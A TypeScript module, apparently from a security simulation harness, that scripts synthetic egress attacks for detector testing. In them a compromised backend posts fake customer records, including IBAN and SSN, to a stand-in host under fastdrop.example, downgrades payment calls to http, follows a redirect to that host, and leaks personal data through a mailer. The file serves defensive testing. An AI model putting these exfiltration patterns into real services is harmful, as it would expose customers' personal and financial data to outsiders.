import { MINUTE_US, SECOND_US } from '../../daemon/model/time.ts'
import { Caller, type Label } from '../caller.ts'
import { operationOf } from '../estate/estate.ts'
import type { Service } from '../estate/operation.ts'
import type { Script } from '../visits/script.ts'
import type { World } from '../world.ts'
import { defineAttack, type Part } from './attack.ts'
import { alone } from './crew.ts'
import { jitter } from './guessing.ts'

/** What one of our own services does towards others: it was broken into, or a dependency of it was. */

interface Calls {
  readonly calls: number
  readonly everyUs: number
}

const INTENSITIES = {
  blatant: { calls: 60, everyUs: 2 * SECOND_US },
  moderate: { calls: 15, everyUs: 30 * SECOND_US },
  stealthy: { calls: 2, everyUs: 10 * MINUTE_US },
} as const satisfies Record<string, Calls>

/** Somebody else's server, that nobody in the company ever called. */
function elsewhere(world: World): Service {
  const name = world.random.pick(['collect', 'paste', 'files', 'hooks'])
  const number = world.random.between(100, 250)
  return {
    key: 'elsewhere',
    host: `${name}-${number}.fastdrop.example`,
    address: `203.0.113.${number}`,
    port: 443,
    entry: 'abroad',
    rpc: null,
    scheme: 'https',
    mirror: 'front',
    versionHeader: null,
    guards: [],
    operations: [],
  }
}

function backend(world: World, label: Label): Caller {
  const actor = world.random.pick(world.population.backends)
  const caller = new Caller(world, actor, world.random.fork(`${label.attack}/${world.nextSerial()}`), label)
  caller.authorization = `Bearer ${actor.secret}`
  return caller
}

function records(caller: Caller): string {
  const number = caller.random.between(0, 4000)
  return `{"to":"ops@fastdrop.example","rows":[{"name":"customer ${number}","email":"c${number}@mail.example","iban":"DE02100100100006820101","ssn":"536-90-4399"}]}`
}

/** The same step again and again, by one of our own services. */
function outgoing(name: string, summary: string, begin: (world: World) => (caller: Caller) => void) {
  return defineAttack<Calls>({
    name,
    detector: name,
    summary,
    intensities: INTENSITIES,
    begin: (world, { calls, everyUs }, label): readonly Part[] => {
      const caller = backend(world, label)
      const step = begin(world)
      return alone(
        caller,
        (function* (): Script {
          for (let i = 0; i < calls; i++) {
            step(caller)
            yield jitter(caller, everyUs)
          }
        })(),
      )
    },
  })
}

export const newHost = outgoing(
  'egress.new_host',
  'one of our services sends what it has to a server that nobody ever called',
  (world) => {
    const there = elsewhere(world)
    return (caller) =>
      caller.stray(there, 'POST', '/in', 200, { body: records(caller), answer: '{"ok":true}', authorization: null })
  },
)
export const downgrade = outgoing(
  'egress.downgrade',
  "calls of another company's interface go over http that always went over https",
  (world) => {
    const charge = operationOf(world.estate.services.payments, 'POST /v1/charges')
    return (caller) => caller.call(charge, { scheme: 'http' })
  },
)
export const redirect = outgoing(
  'egress.redirect',
  "another company's interface sends our service on to a server that nobody ever called, and it follows",
  (world) => {
    const there = elsewhere(world)
    const charge = operationOf(world.estate.services.payments, 'POST /v1/charges')
    return (caller) => {
      const responseHeaders = [['Location', `https://${there.host}/v1/charges`]] as const
      const { requestBody } = caller.call(charge, { status: 307, answer: '', responseHeaders })
      caller.stray(there, 'POST', '/v1/charges', 200, { body: requestBody, answer: '{"id":"ch_1","state":"paid"}' })
    }
  },
)
export const exposedAbroad = outgoing(
  'egress.exposure',
  'personal data goes to another company that was never given any',
  (world) => {
    const send = operationOf(world.estate.services.mailer, 'POST /v3/messages')
    return (caller) => caller.call(send, { body: records(caller) })
  },
)
